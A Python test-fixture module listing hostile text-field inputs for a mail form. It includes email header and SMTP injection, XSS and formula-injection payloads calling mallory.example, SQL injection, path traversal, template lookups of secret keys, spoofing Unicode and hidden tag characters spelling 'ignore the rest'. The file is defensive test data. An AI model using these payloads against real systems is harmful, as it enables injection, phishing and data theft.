"""What Mallory types: strings by kind, each list a way to do harm through a text field."""

# Every control character inside a word, NUL and DEL among them.
CONTROLS = [f"Anna{chr(point)}Berg" for point in (*range(0x20), *range(0x7F, 0xA0))]

# All that some mail program, library or relay takes for the end of a line.
LINE_ENDS = [
    "\r\n", "\n", "\r", "\n\r", "\r\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028",
    "\u2029", "\r\n ", "\r\n\t", "\n ", "\n\t", "\r\n \r\n", "\0\r\n", "\r\0\n", "\x0b\x0c",
]  # fmt: skip
_AFTER_THE_END = [
    "Bcc: victim@mail.example",
    "\r\nContent-Type: text/html\r\n\r\n<h1>Mallory</h1>",
    "From: ministry@gov.example\r\nReply-To: mallory@mail.example",
    ".\r\nMAIL FROM:<mallory@mail.example>\r\nRCPT TO:<victim@mail.example>\r\nDATA",
]
ENCODED_WORDS = [
    "=?utf-8?q?Anna=0D=0ABcc=3A_victim=40mail.example?=",
    "=?UTF-8?B?QW5uYQ0KQmNjOiB2aWN0aW1AbWFpbC5leGFtcGxl?=",
    "=?iso-8859-1?Q?=22?= <victim@mail.example>",
    "Anna =?utf-8?q?=00?=",
    "=?utf-8?q?=E2=80=AE?= Berg",
    "=?utf-7?q?+AA0ACg-Bcc:?=",
    "=?utf-8*en?q?Anna?=",
    "=?us-ascii?x?Anna?=",
    "=?utf-8?q?open and never closed",
    "=?=?utf-8?q?Anna?=?=",
    "Anna=?utf-8?q?glued?=Berg",
]
HEADER_INJECTIONS = [
    *(f"Anna{end}{rest}" for end in LINE_ENDS for rest in _AFTER_THE_END),
    *(f"{end}Bcc: victim@mail.example" for end in LINE_ENDS),
    *(f"Anna Berg{end}" for end in LINE_ENDS),
    *ENCODED_WORDS,
    "Anna\0",
    "\x7fAnna",
    "Anna\b\b\b\bBoss",
    "Anna\x1b[2J",
    "Anna\t\tBerg",
    "Anna \ud83d",
    "a" * 999,
    "é" * 500,
]

BIDI = [f"Anna {chr(point)}gpj.exe" for point in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
SURROGATES = ["\ud800", "Anna\udfff", "\ude00\ud83d", "\ud83d\ude00", "A\udc80B", "\udcff"]
NONCHARACTERS = ["A\ufdd0", "A\ufdef", "\ufffeA", "A\uffff", "A\U0001fffe", "A\U0010ffff"]
PRIVATE_USE = ["\ue000", "A\uf8ffB", "A\U000f0000", "A\U0010fffd"]
UNREADABLE = ["Fran\ufffdois", "\ufffd\ufffd"]
TAGS = [
    "Anna" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the rest"),
    "\U000e0001Anna",
    "Anna\U000e007f",
    "\U0001f3f4\U000e0067\U000e0062",
    "\U0001f3f4" + "\U000e0061" * 40 + "\U000e007f Anna",
]
ZALGO = [
    "A" + "\u0300" * 9,
    "A\u0323\u0301" * 3 + "\u0489" * 20,
    "".join(
        letter + "\u0315\u031b\u0340\u0357\u0321\u0327\u0328\u0334\u0489\u035d" for letter in "Anna"
    ),
    "ཧ" + "\u0f90" * 30,
    "A" + "\u20dd" * 1000,
    "A" + "\u00ad\u0301" * 100,
    "A" + "\u0301\u0323" * 200_000,
    "A" + "\u0301\u0323" * 8,
]

# Taken for another name by the eye; no gate can tell, so nothing may hang on how a name looks.
HOMOGLYPHS = ["Аnnа Веrg", "Tосsіn", "Αdmin", "Ⲧocsin", "аdministrаtor", "ｔｏｃｓｉｎ", "Τοcѕin"]
# Nothing to see, and more than spaces.
INVISIBLE = [
    "\u200b", "\u00ad", "\u2060", "\ufeff", "\u3164", "\uffa0", "\u115f\u1160", "\u034f", "\u200e",
    "\u200f", "\u061c", "\u180e", "\u200c", "\u200d", "\ufe0f", "\U000e0100", "\u2063", "\u00a0",
    "\u3000", " \u200b \u200c \u200d ", "\u17b4", "\ufff9\ufffb", "\ufffc", "\U0001d173", "\u180b",
]  # fmt: skip

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://mallory.example?x="&A1,"Anna")', "+1+1",
    "+33 1 23 45 67 89", "-2+3", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "＝1+1", "＋1", "－1",
    "＠SUM(1)", " =1+1", "\u200b=1+1", "\u00a0@SUM(1)", "=IMPORTXML(A1,B1)", "=DDE(A,B)",
]  # fmt: skip
LINKS = [
    "http://mallory.example", "Anna https://x.example/y", "ftp://x", "javascript://%0aalert(1)",
    "www.mallory.example", "Anna WWW.x.test", "win at casino.com", "Anna.NET", "bit.ly/x",
    "x.example/claim", "prize.click now", "cheap.shop", "http\u200b://x",
]  # fmt: skip
ADDRESSES = ["anna@mail.example", "Anna <anna@mail.example>", "anna＠mail.example", "a@b"]
NO_LETTERS = ["1234", "?", "...", "😀", "'", "’’", "٣٤", "0", "1️⃣", "\u0301", "(--)", "♥"]

# Markup and code: only text for us, to be shown escaped and mailed as it stands.
_SCRIPT = "alert(1)"
_ON_EVENTS = "onerror onload onclick onfocus onmouseover onanimationstart ontoggle onpointerdown"
_SRC_TAGS = "img video audio iframe embed object input svg body details marquee"
_WRAPPED = [
    "{{%s}}",
    "{%% %s %%}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "<?php %s ?>",
    "`%s`",
    "[[%s]]",
]
MARKUP = [
    f"<script>{_SCRIPT}</script>",
    f"</textarea><script>{_SCRIPT}</script>",
    f"</title></style></script><script>{_SCRIPT}</script>",
    f"<ScRiPt\x20src=//mallory.example>{_SCRIPT}</sCrIpT>",
    f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>",
    f"<!--><script>{_SCRIPT}</script>-->",
    f"]]><script>{_SCRIPT}</script>",
    f'"><script>{_SCRIPT}</script>',
    f"' autofocus onfocus={_SCRIPT} x='",
    f"<a href=javascript:{_SCRIPT}>x</a>",
    f"<a href='data:text/html,<script>{_SCRIPT}</script>'>x</a>",
    "<img src=http://mallory.example/pixel.gif width=1>",
    "<meta http-equiv=refresh content=0;url=//mallory.example>",
    "<base href=//mallory.example>",
    "<link rel=stylesheet href=//mallory.example/x.css>",
    "<style>*{background:url(//mallory.example)}</style>",
    "<form action=//mallory.example><input name=email>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x&#x3e;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "＜script＞",
    "<b>Anna</b>",
    "Robert'); DROP TABLE actions;--",
    "1' OR '1'='1",
    "../../../../etc/passwd",
    "{{ settings.SECRET_KEY }}",
    "%(email)s {0.__class__} %n%n%s",
    "[Anna](//mallory.example)",
    *(f"<{tag} src=x onerror={_SCRIPT}>" for tag in _SRC_TAGS.split()),
    *(f"<svg {event}={_SCRIPT}>" for event in _ON_EVENTS.split()),
    *(f"\"{event}='{_SCRIPT}'" for event in _ON_EVENTS.split()),
    *(wrapped % _SCRIPT for wrapped in _WRAPPED),
]

HUGE = ["A" * 1_000_000, "李" * 400_000, " " * 1_000_000, "\u200d" * 1_000_000, "\n" * 1_000_000]

# Harmless, and hard: sequences that must leave in the letter as they came.
EMOJI = [
    "😀", "👍🏽", "👩‍🚀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🏴‍☠️", "❤️‍🔥", "1️⃣", "🇨🇦",
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "👁️‍🗨️", "🙂‍↔️", "☎️", "☎︎",
]  # fmt: skip

# Refused in any field, of one line or of many.
FORBIDDEN = [*BIDI, *SURROGATES, *NONCHARACTERS, *PRIVATE_USE, *UNREADABLE, *TAGS, *ZALGO]
